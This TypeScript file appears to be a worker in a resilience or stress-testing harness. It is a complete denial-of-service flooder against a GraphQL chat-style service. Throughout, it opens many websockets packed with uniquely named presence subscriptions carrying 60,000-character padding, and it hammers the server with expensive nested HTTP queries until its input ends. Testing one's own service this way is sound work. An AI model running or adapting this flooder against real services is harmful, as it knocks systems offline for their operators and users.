import { randomUUID } from 'node:crypto';
import { ask } from './ask.ts';
import { type AttackSocket, openSocket } from './socket.ts';

/** What the attacker is given, as JSON in the first argument. It goes on until its standard input ends. */
export interface FloodOrder {
  readonly graphqlUrl: string;
  readonly socketUrl: string;
  readonly token: string;
  readonly sockets: number;
  readonly subscriptionsPerSocket: number;
  readonly queriesAtOnce: number;
}

// Written by the attack that started this process.
const order = JSON.parse(process.argv[2] ?? '{}') as FloodOrder;
const stop = new AbortController();
process.stdin.on('end', () => stop.abort());
process.stdin.resume();

const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/** Opens sockets and fills each with subscriptions that are like no other. */
async function floodSockets(): Promise<void> {
  const open = new Set<AttackSocket>();
  const one = async () => {
    while (!stop.signal.aborted) {
      const socket = await openSocket(order.socketUrl, order.token).catch(() => null);
      if (socket === null) {
        await pause(200);
        continue;
      }
      open.add(socket);
      for (let index = 0; index < order.subscriptionsPerSocket && socket.isOpen && !stop.signal.aborted; index += 1) {
        const userIds = Array.from({ length: 200 }, () => `invented-${randomUUID()}`);
        const name = `s${randomUUID().replaceAll('-', '')}`;
        const query = `subscription ${name}($userIds:[ID!]!){presence(userIds:$userIds){__typename userId online}}`;
        const variables = { userIds, unused: 'x'.repeat(60_000) };
        socket.say({ id: String(index), type: 'subscribe', payload: { query, variables } });
        await pause(20);
      }
      await Promise.race([socket.closed, pause(1_000)]);
      if (!socket.isOpen) open.delete(socket);
    }
  };
  await Promise.all(Array.from({ length: order.sockets }, one));
  for (const socket of open) socket.close();
}

/** Asks for what is dear, again and again, over HTTP. */
async function floodQueries(): Promise<void> {
  const dear = [
    '{users(first:100,filter:{name:{contains:"zzz"}}){nodes{id name custom}}}',
    '{channels(first:100,filter:{hasUnread:true}){nodes{id members(first:100){nodes{user{id custom}}} messages(last:100){nodes{text}}}}}',
    '{unread{total}}',
  ];
  const one = async () => {
    while (!stop.signal.aborted)
      for (const query of dear) {
        const { code } = await ask(order, order.token, query).catch(() => ({ code: 'no answer' }));
        if (code !== null) await pause(10);
      }
  };
  await Promise.all(Array.from({ length: order.queriesAtOnce }, one));
}

await Promise.all([floodSockets(), floodQueries()]);
process.exit();
